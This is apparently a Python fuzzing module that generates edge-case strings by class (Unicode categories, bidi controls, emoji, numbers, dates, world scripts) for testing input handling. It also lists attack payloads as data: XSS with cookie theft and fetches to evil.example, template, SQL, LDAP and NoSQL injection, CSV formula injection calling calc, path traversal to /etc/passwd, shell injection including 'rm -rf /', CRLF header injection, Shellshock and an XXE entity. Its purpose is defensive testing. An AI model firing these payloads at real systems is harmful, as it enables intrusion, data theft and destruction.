"""Strings that break software, made by class and not copied from any list. All are invented here.

Lone surrogates are left out: no browser can send them. Broken bytes are in `BROKEN_BYTES`.
"""

import sys
import unicodedata
from collections.abc import Iterator


def _characters_by_category() -> Iterator[str]:
    """Three characters of every Unicode category but surrogates, the first, middle and last."""
    found: dict[str, list[str]] = {}
    for number in range(sys.maxunicode + 1):
        category = unicodedata.category(chr(number))
        if category != "Cs":
            found.setdefault(category, []).append(chr(number))
    for category, rows in sorted(found.items()):
        yield from {rows[0], rows[len(rows) // 2], rows[-1]}
        yield f"{category}: {''.join(rows[:: max(1, len(rows) // 40)][:40])}"


def _controls() -> Iterator[str]:
    for number in (*range(0x20), *range(0x7F, 0xA0)):
        yield f"a{chr(number)}b"


def _spaces_and_unseen() -> Iterator[str]:
    numbers = (0xA0, 0x1680, *range(0x2000, 0x2010), 0x2028, 0x2029, 0x202F, 0x205F, 0x2060,
               0x3000, 0xFEFF, 0x180E, 0x115F, 0x3164, 0xFFA0, 0x00AD, 0x034F)  # fmt: skip
    for number in numbers:
        yield chr(number)
        yield f"in{chr(number)}side"


def _directions() -> Iterator[str]:
    for number in (0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x061C):
        yield f"photo{chr(number)}gpj.exe"
    yield "שלום עולם and back"
    yield "\u202eReversed\u202c then not"
    yield "مرحبا ١٢٣ 123"


def _combining() -> Iterator[str]:
    yield "e\u0301 é"
    yield "".join(f"{letter}{chr(0x300 + place) * 40}" for place, letter in enumerate("zalgo"))
    yield "o" + "\u0338" * 1900
    yield "\u0301starts with a mark"
    yield "ﷺ" * 18
    yield "ffi ﬃ ™ ℡ ㎏ ① ½ ﬀ"
    yield "ｆｕｌｌ ｗｉｄｔｈ ＝１＋１"
    yield "ı İ ß ẞ ſ K Å Ω"
    yield "Ｓｃｒｉｐｔ ‹b› ＜script＞"


def _emoji() -> Iterator[str]:
    yield "\U0001f600" * 50
    yield "👩‍👩‍👧‍👦 family"
    yield "🏴󠁧󠁢󠁷󠁬󠁳󠁿 🏳️‍🌈 ❤️‍🔥"
    yield "👍🏻👍🏼👍🏽👍🏾👍🏿"
    yield "\U0001f1ec\U0001f1e7\U0001f1ec"
    yield "\ufe0f\u200d\ufe0f"
    yield "\U0010ffff\U000f0000\ue000"


def _markup() -> Iterator[str]:
    acts = ("alert(1)", "fetch('//evil.example')", "document.cookie")
    shapes = (
        "<script>{}</script>", "<ScRiPt >{}</sCrIpT>", "<img src=x onerror={}>",
        "<svg/onload={}>", "\"><script>{}</script>", "' onmouseover='{}", "<a href=javascript:{}>x",
        "<iframe srcdoc='<script>{}</script>'>", "<body onload={}>", "<details open ontoggle={}>",
        "</textarea><script>{}</script>", "</title><script>{}</script>",
        "<!--<script>{}--></script>",
        "<math><mtext></mtext><script>{}</script></math>", "<input autofocus onfocus={}>",
        "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}", "%3Cscript%3E{}%3C/script%3E",
        "\\u003cscript\\u003e{}", "<scr\x0bipt>{}</script>", "<style>@import '{}'</style>",
        "<form action='//evil.example'><button formaction=javascript:{}>", "<base href='//{}/'>",
        "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<object data='{}'>",
        "<link rel=stylesheet href='{}'>", "<video><source onerror={}>", "]]><x>{}</x><![CDATA[",
    )  # fmt: skip
    for shape in shapes:
        for act in acts:
            yield shape.format(act)


def _templates() -> Iterator[str]:
    yield from (
        "{{ 7*7 }}", "{% load static %}", "{% include '/etc/passwd' %}", "{{ request.user }}",
        "{{ settings.SECRET_KEY }}", "{% debug %}", "{# comment #}", "{%", "%}", "{{", "}}",
        "${7*7}", "#{7*7}", "<%= 7*7 %>", "${{<%[%'\"}}%\\", "{{config}}", "[[${7*7}]]", "*{7*7}",
        "@(7*7)", "{php}echo 1;{/php}", "{{=<% %>=}}", "{{''.__class__.__mro__}}", "{0}", "{name}",
        "{0.__class__}", "{self}", "%(name)s", "%s%s%s%s", "%n%n", "%x %d %f", "%99999d", "%%",
        "$name", "${name}", "`id`", "$(id)", "{{constructor.constructor('return 1')()}}",
    )  # fmt: skip


def _queries() -> Iterator[str]:
    yield from (
        "' OR '1'='1", "1; DROP TABLE intake_draft; --", "' UNION SELECT NULL--", "Robert'); --",
        "\" OR \"\"=\"", "1' AND SLEEP(5)#", "admin'--", "/* comment */", "; SHUTDOWN", "' || '1",
        "'; EXEC xp_cmdshell('dir'); --", "1 OR 1=1", "\\'; --", "%' LIKE '%", "_ % \\ [a-z]",
        "'); SELECT pg_sleep(5); --", "$$ body $$", "$tag$ x $tag$", "CHAR(0x41)", "''''''''",
        "*)(uid=*))(|(uid=*", "{\"$gt\": \"\"}", "{\"$where\": \"sleep(1)\"}",
        "' or count(/*)=1 or '",
    )  # fmt: skip


def _cells() -> Iterator[str]:
    for start in ("=", "+", "-", "@", "\t=", "\r=", "＝", "|", "%"):
        yield f"{start}1+1"
        yield f'{start}HYPERLINK("https://evil.example","x")'
        yield f"{start}cmd|' /C calc'!A0"
    yield 'a,b;"c"\n=2+2'


def _paths_and_commands() -> Iterator[str]:
    yield from (
        "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd%00.png", "%2e%2e%2f",
        "....//....//", "..%c0%af..%c0%af", "file:///etc/passwd", "C:\\CON", "NUL", "COM1.txt",
        "~root", "/dev/null", "/proc/self/environ", "\\\\server\\share", "a" * 300 + ".png",
        ".", "..", "-rf", "--help", "; rm -rf /", "| cat /etc/passwd", "& whoami", "&& id",
        "$IFS", "\nid\n", "a\r\nBcc: x@example.com", "a\r\nSet-Cookie: x=1", "%0d%0aX: y",
        "() { :;}; echo x", "https://127.0.0.1:22/", "gopher://x", "javascript:alert(1)",
        "data:text/html,<script>1</script>", "//evil.example", "\\\\evil.example",
    )  # fmt: skip


def _numbers() -> Iterator[str]:
    yield from (
        "0", "-0", "-1", "1e9999", "-1e9999", "1e-9999", "NaN", "nan", "Infinity", "-inf", "0x10",
        "0b1", "0o7", "1_000", "1,000.50", "1.000,50", "٣", "½", "²", "Ⅷ", "1/0", "0/0", "9" * 400,
        "2147483648", "-2147483649", "9223372036854775808", "18446744073709551616", "0.1e", "1..2",
        "+1", "++1", "--1", "00000000000000000000001", "1 2", "１２", "€1", "£-0.00", "𝟙𝟚",
        "4" * 4400,
    )  # fmt: skip


def _dates() -> Iterator[str]:
    yield from (
        "0000-00-00", "0000", "9999-12-31", "10000-01-01", "1900-02-29", "2026-02-30",
        "31/11/2026", "-0001-01-01", "2026-13-01", "2026-W53-7", "24:00", "23:59:60", "25:61",
        "99:99", "-1:00", "12:00Z", "T", "1752-09-03", "2026-03-29 01:30", "2026-10-25 01:30",
        "now", "yesterday", "1970-01-01T00:00:00+25:00", "２０２６", "٢٠٢٦",
    )  # fmt: skip


def _words_that_are_values() -> Iterator[str]:
    yield from (
        "null", "NULL", "None", "undefined", "true", "FALSE", "nil", "(null)", "[]", "{}", "[null]",
        "{\"a\":1}", "[[[[[[", "\"", "'", "\\", "\\\\", "\\n", "\\0", "\\x00", "\\u0000", "\\ud800",
        "__proto__", "constructor", "hasOwnProperty", "__init__", "self", "id", "pk", "password",
        "csrfmiddlewaretoken", "then", "O'Brien-Smith", "Null", "Test", "N/A",
        "a" * 2000, "word " * 400, "\n" * 500 + "x", " x ", "x" * 199 + "é", "&amp;", "&nbsp;",
        "&#0;", "&#xD800;", "&copy", "<", ">", "<>", "<!", "<?php", "<?xml version='1.0'?>",
        "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>", "a\u2028b\u2029c",
    )  # fmt: skip


def _scripts_of_the_world() -> Iterator[str]:
    yield from (
        "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogoch", "Ŵyl ŷ â ê î ô û ŵ ŷ ä ë ï",
        "Zażółć gęślą jaźń", "Příliš žluťoučký kůň", "Nguyễn Thị Hồng", "Ελληνικά", "Кириллица",
        "中文字符測試", "日本語テスト", "ｶﾀｶﾅ", "한국어 시험", "ภาษาไทย", "हिन्दी परीक्षा", "தமிழ்",
        "বাংলা", "ქართული", "አማርኛ", "ᚠᚢᚦᚨᚱᚲ", "𓀀𓁐", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "𐐷𐐲𐑌", "ᏣᎳᎩ", "ⲕⲏⲙⲉ",
        "аdmin with Cyrillic a", "pаypаl.example", "ΑΒΓ looks like ABΓ", "\u0d4d\u0d4d\u0d4d",
        "జ్ఞ\u200cా", "لُلُصّبُلُلصّبُررً", "Ǆ ǅ ǆ Ĳ", "ﬁnd",
    )  # fmt: skip


CLASSES = {
    "category": _characters_by_category,
    "control": _controls,
    "space": _spaces_and_unseen,
    "direction": _directions,
    "combining": _combining,
    "emoji": _emoji,
    "markup": _markup,
    "template": _templates,
    "query": _queries,
    "cell": _cells,
    "path": _paths_and_commands,
    "number": _numbers,
    "date": _dates,
    "value": _words_that_are_values,
    "script": _scripts_of_the_world,
}
BY_CLASS = {name: tuple(dict.fromkeys(make())) for name, make in CLASSES.items()}
STRINGS = tuple(dict.fromkeys(text for rows in BY_CLASS.values() for text in rows))

BROKEN_BYTES = (
    b"\xed\xa0\x80",  # a lone surrogate, as UTF-8 forbids it
    b"\xed\xbf\xbf",
    b"\xff\xfe\xfd",
    b"\xc0\xaf",  # an overlong slash
    b"\xf4\x90\x80\x80",  # past the last code point
    b"\xe2\x82",  # cut short
    b"caf\xe9",  # Latin-1
    b"\x00",
    b"a\x00b",
)
